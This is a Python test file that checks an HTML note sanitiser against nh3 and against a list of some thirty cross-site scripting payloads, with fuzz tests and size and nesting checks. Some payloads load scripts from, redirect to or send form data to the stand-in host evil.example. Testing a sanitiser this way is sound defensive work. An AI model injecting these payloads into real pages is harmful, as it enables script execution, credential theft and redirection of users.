"""Notes and guidelines as HTML: held against another sanitiser and a list of attacks."""

from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotations.domain.errors import Refused
from annotations.html import ATTRIBUTES, MOST, MOST_NESTING, PROTOCOLS, TAGS, clean_note, show_note

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://a.example' onclick=alert(1) style='position:fixed'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p\x00 onmouseover=alert(1)>x",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b onfocus=alert(1) tabindex=1 autofocus>x</b>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<a href='//evil.example' target=_blank ping=//evil.example>x</a>",
]


class Seen(HTMLParser):
    """Collects the start tags and attributes that a parser finds."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def assert_safe(html):
    for tag, attributes in Seen(html).found:
        assert tag in TAGS, html
        assert set(attributes) <= set(ATTRIBUTES.get(tag, ())), html
        address = (attributes.get("href") or "").strip().lower()
        scheme, colon, _ = address.partition(":")
        assert not colon or scheme in PROTOCOLS or "/" in scheme, html


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_that_runs(attack):
    assert_safe(clean_note(attack))
    assert_safe(clean_note(f"before {attack} שלום {attack}"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_left_is_left_alone_by_another_sanitiser(attack):
    """Nothing that nh3 would take out is in the output: it parses it to the same elements."""
    cleaned = clean_note(attack)
    again = nh3.clean(
        cleaned,
        tags=set(TAGS),
        attributes={tag: set(names) for tag, names in ATTRIBUTES.items()},
        url_schemes=set(PROTOCOLS),
        link_rel=None,
    )

    assert Seen(again).found == Seen(cleaned).found


@given(
    st.lists(
        st.sampled_from(
            (
                *("<", ">", "</", "/>", "script", "a ", "href=", "'", '"', "javascript:", "&"),
                *("#106;", "p", "b", "!--", "--", " onclick=", " ", "\n\n", "\x00"),
                *("é", "e\u0301", "👩‍👩‍👧", "שלום"),
            )
        ),
        max_size=30,
    ).map("".join)
)
def test_no_mixture_of_pieces_gets_through(text):
    assert_safe(clean_note(text))


def test_what_is_allowed_stays_as_written():
    written = (
        '<p>Ask <em>who</em> says so, <a href="https://example.org/a?b=1">here</a>.</p>'
        "<ul><li>e\u0301 👩‍👩‍👧</li><li>שלום</li></ul>"
    )

    assert clean_note(written) == written


def test_plain_text_becomes_paragraphs_and_lines():
    assert clean_note("One & two\r\nthree\r\n\r\n\r\nfour < five") == (
        "<p>One &amp; two<br>three</p><p>four &lt; five</p>"
    )
    assert clean_note("") == clean_note(" \n\n ") == ""


def test_a_note_of_the_longest_size_passes_and_a_byte_more_does_not():
    assert clean_note("é" * MOST).startswith("<p>é")
    with pytest.raises(Refused, match=f"has {MOST + 1} characters") as refusal:
        clean_note("é" * MOST + "🌊")
    assert refusal.value.code == "note_size"


def test_tags_nested_too_deep_are_refused_before_they_are_parsed():
    assert clean_note("<em>" * MOST_NESTING + "x").count("<em>") == MOST_NESTING
    with pytest.raises(Refused, match=f"stand {MOST_NESTING + 1} deep") as refusal:
        clean_note("<em>" * (MOST_NESTING + 1))
    assert refusal.value.code == "note_nesting"


@pytest.mark.parametrize("text", ["<b>é</b>" * MOST, "<em>" * (MOST_NESTING + 1) + "שלום"])
def test_what_cannot_be_cleaned_is_shown_with_its_tags_as_words(text):
    assert show_note(text) == f"<p>{text.replace('<', '&lt;').replace('>', '&gt;')}</p>"
    assert show_note("<b>é</b>") == clean_note("<b>é</b>")


def test_tags_beside_one_another_and_empty_ones_are_not_nested():
    assert "deep" not in clean_note("<b>x</b></b>" * 300 + "<br>" * 300)


def test_a_lone_surrogate_and_a_null_are_left_out():
    assert clean_note("a\ud83d\x00b") == "<p>ab</p>"
